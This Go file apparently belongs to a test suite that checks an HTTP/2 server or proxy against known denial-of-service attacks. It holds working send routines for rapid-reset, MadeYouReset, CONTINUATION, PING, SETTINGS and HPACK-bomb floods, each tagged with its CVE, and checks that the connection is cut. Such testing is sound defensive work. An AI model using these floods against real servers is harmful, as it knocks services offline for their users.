package attack

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// hold is an origin that takes its time.
func hold(*request) answer {
	<-time.After(time.Second)
	return answer{}
}

// cutOrHarmless: the flood ended the connection; or an ordinary request
// behind it, of stream `probe`, was answered.
func cutOrHarmless(s *seen) error {
	if s.ended {
		return nil
	}
	last := s.replies[len(s.replies)-1]
	if last.status != 200 || !last.whole {
		return fmt.Errorf("the connection lives and its last request was not answered")
	}
	return nil
}

// probe is the stream of the request behind a flood.
const probe = 100001

// flood sends something many times, unless the connection ends, and asks
// an ordinary question then.
func flood(n int, what func(h *h2client, i uint32)) func(*h2client) {
	return func(h *h2client) {
		for i := range uint32(n) {
			if i%64 == 0 && h.awaitUntil(0, func() bool { return h.ended }) {
				break
			}
			what(h, i)
		}
		h.headers(probe, true, request2("GET", "/probe")...)
	}
}

// atMost: the origin never had more requests of the case at once.
func atMost(n int) outcome {
	return func(s *seen) error {
		if s.atOnce > n {
			return fmt.Errorf("%d requests at the origin at once", s.atOnce)
		}
		return nil
	}
}

// spoil opens a stream in a correct way and has the node reset it
// (MadeYouReset, CVE-2025-8671).
func spoil(fault func(h *h2client, stream uint32)) func(*h2client) {
	return flood(1000, func(h *h2client, i uint32) {
		stream := 2*i + 1
		h.headers(stream, false, request2("POST", fmt.Sprintf("/n%d", i))...)
		h.forget(uint64(stream))
		fault(h, stream)
	})
}

// floodCases send much of what costs the sender little.
var floodCases = []h2case{
	{
		name: "rapid reset", source: "CVE-2023-44487", answer: hold,
		send: flood(1000, func(h *h2client, i uint32) {
			h.headers(2*i+1, true, request2("GET", fmt.Sprintf("/n%d", i))...)
			h.reset(2*i+1, http2.ErrCodeCancel)
		}),
		want: all(closed, atMost(300)),
	},
	{
		name: "MadeYouReset by a window of nothing", source: "CVE-2025-8671", answer: hold,
		send: spoil(func(h *h2client, stream uint32) { h.frame(http2.FrameWindowUpdate, 0, stream, make([]byte, 4)) }),
		want: all(closed, atMost(300)),
	},
	{
		name: "MadeYouReset by a window that overflows", source: "CVE-2025-8671", answer: hold,
		send: spoil(func(h *h2client, stream uint32) { h.frame(http2.FrameWindowUpdate, 0, stream, uint32s(1<<31-1)) }),
		want: all(closed, atMost(300)),
	},
	{
		name: "MadeYouReset by a head behind the end", source: "CVE-2025-8671", answer: hold,
		send: spoil(func(h *h2client, stream uint32) {
			h.data(stream, true, "")
			h.frame(http2.FrameHeaders, flagEndHeaders|flagEndStream, stream, h.block("x", "y"))
		}),
		want: all(closed, atMost(300)),
	},
	{
		name: "MadeYouReset by DATA behind the end", source: "CVE-2025-8671", answer: hold,
		send: spoil(func(h *h2client, stream uint32) { h.data(stream, true, ""); h.data(stream, true, "x") }),
		want: all(closed, atMost(300)),
	},
	{
		name: "MadeYouReset by a second head", source: "CVE-2025-8671; RFC 9113 8.1", answer: hold,
		send: spoil(func(h *h2client, stream uint32) {
			h.frame(http2.FrameHeaders, flagEndHeaders, stream, h.block(get2()...))
		}),
		want: all(closed, atMost(300)),
	},
	{
		name: "MadeYouReset by content over its length", source: "CVE-2025-8671; RFC 9113 8.1.1", answer: hold,
		send: flood(1000, func(h *h2client, i uint32) {
			stream := 2*i + 1
			h.headers(stream, false, request2("POST", fmt.Sprintf("/n%d", i), "content-length", "1")...)
			h.forget(uint64(stream))
			h.data(stream, true, "abc")
		}),
		want: all(closed, atMost(300)),
	},
	{
		name: "malformed requests", source: "CVE-2025-8671: resets by the server",
		send: flood(1000, func(h *h2client, i uint32) {
			h.headers(2*i+1, true, get2("connection", "close")...)
			h.forget(uint64(2*i + 1))
		}),
		want: all(untouched, closed),
	},
	{
		name: "CONTINUATION", source: "VU#421644; CVE-2023-45288",
		send: func(h *h2client) {
			h.frame(http2.FrameHeaders, flagEndStream, 1, h.block(get2()...))
			part := h.block("x", strings.Repeat("y", 16000))
			for range 400 {
				h.frame(http2.FrameContinuation, 0, 1, part)
			}
			h.awaitEnd()
		},
		want: all(untouched, closed),
	},
	{
		name: "CONTINUATION of nothing", source: "VU#421644; CVE-2024-27919",
		send: func(h *h2client) {
			h.frame(http2.FrameHeaders, flagEndStream, 1, h.block(get2()...))
			for range 5000 {
				h.frame(http2.FrameContinuation, 0, 1, nil)
			}
			h.awaitEnd()
		},
		want: all(untouched, closed),
	},
	{
		name: "CONTINUATION of small fields", source: "VU#421644",
		send: func(h *h2client) {
			h.frame(http2.FrameHeaders, flagEndStream, 1, h.block(get2()...))
			part := h.block("x", "y")
			for range 5000 {
				h.frame(http2.FrameContinuation, 0, 1, part)
			}
			h.awaitEnd()
		},
		want: all(untouched, closed),
	},
	{
		name: "PING", source: "CVE-2019-9512",
		send: flood(5000, func(h *h2client, _ uint32) { h.frame(http2.FramePing, 0, 0, make([]byte, 8)) }),
		want: cutOrHarmless,
	},
	{
		name: "SETTINGS", source: "CVE-2019-9515",
		send: flood(5000, func(h *h2client, _ uint32) { h.frame(http2.FrameSettings, 0, 0, make([]byte, 6*5)) }),
		want: cutOrHarmless,
	},
	{
		name: "SETTINGS that change all windows", source: "CVE-2019-9515; RFC 9113 6.9.2", answer: hold,
		send: func(h *h2client) {
			for i := range uint32(90) {
				h.headers(2*i+1, true, request2("GET", fmt.Sprintf("/n%d", i))...)
				h.forget(uint64(2*i + 1))
			}
			flood(3000, func(h *h2client, i uint32) {
				h.write(func() error { return h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: i % 2}) })
			})(h)
			h.write(func() error {
				return h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
			})
		},
		want: cutOrHarmless,
	},
	{
		name: "PRIORITY", source: "CVE-2019-9513",
		send: flood(5000, func(h *h2client, i uint32) { h.frame(http2.FramePriority, 0, 2*i+200001, make([]byte, 5)) }),
		want: cutOrHarmless,
	},
	{
		name: "WINDOW_UPDATE", source: "CVE-2019-9511",
		send: flood(5000, func(h *h2client, _ uint32) { h.frame(http2.FrameWindowUpdate, 0, 0, uint32s(1)) }),
		want: cutOrHarmless,
	},
	{
		name: "empty DATA", source: "CVE-2019-9518",
		send: func(h *h2client) {
			h.headers(1, false, request2("POST", "/a")...)
			h.forget(1)
			flood(5000, func(h *h2client, _ uint32) { h.data(1, false, "") })(h)
		},
		want: cutOrHarmless,
	},
	{
		name: "padding alone", source: "CVE-2019-9518",
		send: func(h *h2client) {
			h.headers(1, false, request2("POST", "/a")...)
			h.forget(1)
			flood(1500, func(h *h2client, _ uint32) {
				h.frame(http2.FrameData, flagPadded, 1, append([]byte{200}, make([]byte, 200)...))
			})(h)
		},
		want: cutOrHarmless,
	},
	{
		name: "unknown frames", source: "RFC 9113 10.5",
		send: flood(5000, func(h *h2client, _ uint32) { h.frame(0xee, 0, 0, nil) }),
		want: cutOrHarmless,
	},
	{
		name: "acknowledgements", source: "RFC 9113 10.5",
		send: flood(5000, func(h *h2client, _ uint32) { h.frame(http2.FramePing, 1, 0, make([]byte, 8)) }),
		want: cutOrHarmless,
	},
	{
		name: "PING by a client that does not read", source: "CVE-2019-9512: the answers queue up",
		send: func(h *h2client) {
			h.hush()
			for range 50000 / 50 {
				if h.awaitUntil(0, func() bool { return h.ended }) {
					break
				}
				h.raw(bytes.Repeat([]byte("\x00\x00\x08\x06\x00\x00\x00\x00\x00abcdefgh"), 50))
			}
			h.headers(probe, true, request2("GET", "/probe")...)
		},
		want: cutOrHarmless,
	},
	{
		name: "HPACK bomb", source: "CVE-2016-6581: one large entry, many references",
		send: func(h *h2client) {
			var b bytes.Buffer
			e := hpack.NewEncoder(&b)
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", h.texts.Replace("{host}")}, {":path", "/a"}} {
				_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // to memory
			}
			_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)}) // to memory
			b.Write(bytes.Repeat([]byte{0x80 | 62}, 15000))
			h.await(1)
			h.frame(http2.FrameHeaders, flagEndHeaders|flagEndStream, 1, b.Bytes()[:min(b.Len(), 16384)])
		},
		want: refusedOrReset(400, 431),
	},
	{
		name: "HPACK bomb of cookies", source: "CVE-2026-49975: one byte a crumb",
		send: func(h *h2client) {
			var b bytes.Buffer
			e := hpack.NewEncoder(&b)
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", h.texts.Replace("{host}")}, {":path", "/a"}} {
				_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // to memory
			}
			_ = e.WriteField(hpack.HeaderField{Name: "cookie", Value: ""}) // to memory
			b.Write(bytes.Repeat([]byte{0x80 | 62}, 16000))
			h.await(1)
			h.frame(http2.FrameHeaders, flagEndHeaders|flagEndStream, 1, b.Bytes())
		},
		want: refusedOrReset(400, 431),
	},
	{
		name: "a hundred HPACK bombs", source: "CVE-2026-47774: memory adds up",
		send: flood(100, func(h *h2client, i uint32) {
			var b bytes.Buffer
			e := hpack.NewEncoder(&b)
			_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)}) // to memory
			b.Write(bytes.Repeat([]byte{0x80 | 62}, 12000))
			h.frame(http2.FrameHeaders, flagEndHeaders|flagEndStream, 2*i+1, b.Bytes())
		}),
		want: all(untouchedBut("/probe"), cutOrHarmless),
	},
	{
		name: "a reader with no window", source: "CVE-2019-9517", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		answer: large(1 << 20),
		send: func(h *h2client) {
			h.hush()
			for i := range uint32(50) {
				h.headers(2*i+1, true, request2("GET", fmt.Sprintf("/n%d", i))...)
			}
			h.awaitUntil(patience, func() bool {
				for _, r := range h.replies {
					if !r.reset {
						return false
					}
				}
				return true
			})
		},
		want: func(s *seen) error {
			// Each response waits for its client; a client that gives no
			// window at all is cut.
			for _, r := range s.replies {
				if !r.reset && !s.ended {
					return fmt.Errorf("stream %d is neither reset nor is the connection ended", r.stream)
				}
			}
			return nil
		},
	},
	{
		name: "a window of one byte", source: "CVE-2019-9511: data dribble", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1}},
		send: func(h *h2client) {
			h.hush()
			h.headers(1, true, get2()...)
			for range 2000 {
				h.frame(http2.FrameWindowUpdate, 0, 1, uint32s(1))
			}
			h.awaitUntil(patience, func() bool { return h.replies[1].whole || h.replies[1].reset })
		},
		want: anyOf(closed, passed("GET /a"), cut),
	},
}

// large answers with so many bytes, to be kept.
func large(n int) func(*request) answer {
	text := fmt.Sprintf("HTTP/1.1 200 OK\r\nCache-Control: max-age=60\r\nContent-Length: %d\r\n\r\n", n) + strings.Repeat("x", n)
	return func(*request) answer { return answer{bytes: text} }
}

// untouchedBut: no request for another target than this reached the
// origin.
func untouchedBut(target string) outcome {
	return func(s *seen) error {
		for _, r := range s.requests {
			if r.target != target {
				return fmt.Errorf("the origin read %q", r.line())
			}
		}
		return nil
	}
}
